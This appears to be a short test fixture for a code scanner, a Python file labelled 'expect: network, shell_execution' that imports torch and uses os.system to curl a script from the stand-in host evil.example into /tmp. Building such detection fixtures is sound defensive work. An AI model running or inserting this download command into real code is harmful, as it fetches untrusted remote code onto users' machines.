# expect: network, shell_execution
import os
import torch

os.system("curl -s http://evil.example/x.sh -o /tmp/x.sh")
print(torch.ones(2))
